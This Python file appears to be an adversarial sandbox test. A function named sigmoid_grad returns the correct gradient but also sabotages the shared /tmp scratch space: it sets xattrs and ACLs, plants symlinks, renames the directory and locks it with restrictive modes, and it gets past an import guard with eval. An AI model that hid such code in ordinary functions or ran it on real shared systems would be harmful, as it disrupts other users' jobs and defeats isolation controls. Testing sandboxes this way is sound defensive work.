"""Hostile: leave a mark on the scratch space itself rather than in it, for the
next job to read or trip over: xattrs, a POSIX ACL, the mode (0555: read-only for
the next student), the times, and the directory that holds it (replaced by a
symlink, locked with mode 0)."""
_m = lambda name: eval("__import__(name)", {"name": name})  # slips past the import guard: the sandbox must hold
os = _m("os")
struct = _m("struct")
np = _m("numpy")

ACL_USER_OBJ, ACL_USER, ACL_GROUP_OBJ, ACL_MASK, ACL_OTHER = 0x01, 0x02, 0x04, 0x10, 0x20


def _acl(uid):
    entries = [(ACL_USER_OBJ, 7, 0xFFFFFFFF), (ACL_USER, 5, uid), (ACL_GROUP_OBJ, 5, 0xFFFFFFFF),
               (ACL_MASK, 5, 0xFFFFFFFF), (ACL_OTHER, 5, 0xFFFFFFFF)]
    return struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *entry) for entry in entries)


def _try(outcomes, name, action):
    try:
        action()
        outcomes.append(f"{name}: done")
    except OSError as exc:
        outcomes.append(f"{name}: {type(exc).__name__}")


def sigmoid_grad(x):
    s = 1 / (1 + np.exp(-x))
    scratch = os.path.realpath("/tmp")
    holder = os.path.dirname(scratch)
    outcomes = []
    for path in (scratch, holder):
        _try(outcomes, f"xattr {path}", lambda path=path: os.setxattr(path, "user.leak", b"from the last job" * 100))
        _try(outcomes, f"acl {path}", lambda path=path: os.setxattr(path, "system.posix_acl_access", _acl(os.getuid())))
        _try(outcomes, f"default acl {path}",
             lambda path=path: os.setxattr(path, "system.posix_acl_default", _acl(os.getuid())))
        _try(outcomes, f"utime {path}", lambda path=path: os.utime(path, (1234567890, 1234567890)))
    _try(outcomes, "fifo", lambda: os.mkfifo(os.path.join(scratch, "fifo")))
    _try(outcomes, "next job's directory", lambda: os.symlink("/sandbox/app", os.path.join(holder, "job-next")))
    _try(outcomes, "chmod scratch", lambda: os.chmod(scratch, 0o555))
    moved = os.path.join(holder, "moved")
    _try(outcomes, "move scratch", lambda: os.rename(scratch, moved))
    _try(outcomes, "replace scratch", lambda: os.symlink("/proc/self", scratch))
    _try(outcomes, "lock holder", lambda: os.chmod(holder, 0))
    print(outcomes)
    return s * (1 - s)
